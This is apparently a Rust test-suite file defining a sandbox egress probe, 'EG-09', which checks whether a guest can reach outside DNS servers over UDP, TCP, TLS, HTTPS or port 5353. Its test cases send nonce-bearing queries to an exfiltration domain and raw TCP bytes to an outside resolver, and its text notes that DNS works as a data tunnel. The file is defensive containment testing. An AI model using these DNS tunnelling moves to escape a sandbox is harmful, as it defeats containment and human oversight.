//! EG-09: DNS straight to an outside server.

use super::make::{sequence, tcp_sending, unseen};
use crate::{Action, CaseSpec, DnsTransport, Leak, Priority, Probe, Vantage, world};

/// The probe.
pub const PROBE: Probe = Probe {
    id: "EG-09",
    title: "DNS straight to an outside server",
    requirement: "A guest MUST NOT reach a name server outside the bottle over any transport.",
    why: "A name server that the guest chooses is a tunnel of some 200 bytes a query and defeats every rule about names.",
    source: "Seen in: gh-aw-firewall A6, httpjail test_public_dns_blocked, pipelock no_direct_dns.",
    does: "Asks outside name servers for a name that carries the nonce, over UDP, TCP, TLS and HTTPS.",
    on_breach: "Packets to port 53 or 853 leave the guest. See EG-01 and EG-04; a resolver in the guest is not needed.",
    priority: Priority::P0,
    tags: &["egress", "dns"],
    cases,
};

fn cases() -> Vec<CaseSpec> {
    let ask = |port: u16, host: &str, transport| Action::Dns {
        server: format!("{host}:{port}"),
        transport,
        name: format!("{{nonce}}.{}", world::EXFIL),
        qtype: 1,
        answer_is_finding: false,
    };
    let outside = world::OUTSIDE_RESOLVER;
    // Inside TLS no witness can read a name where no origin ends it: bytes in the clear show that the port is open.
    let dot = sequence([
        ask(853, outside, DnsTransport::Tls),
        tcp_sending(format!("{outside}:853"), "{nonce}"),
    ]);
    let doh = ask(443, world::DENIED_ADDRESS, DnsTransport::Https);
    vec![
        unseen("udp", ask(53, outside, DnsTransport::Udp)).alive(&[Vantage::InternetDns]),
        unseen("tcp", ask(53, outside, DnsTransport::Tcp)).alive(&[Vantage::InternetDns]),
        unseen("tls", dot).alive(&[Vantage::InternetTcp]),
        unseen("https", doh).alive(&[Vantage::InternetTcp]),
        unseen("udp-other-port", ask(5353, outside, DnsTransport::Udp)).alive(&[Vantage::InternetUdp]),
    ]
    .into_iter()
    .map(|case| case.controls(&[Leak::Bridge]))
    .collect()
}
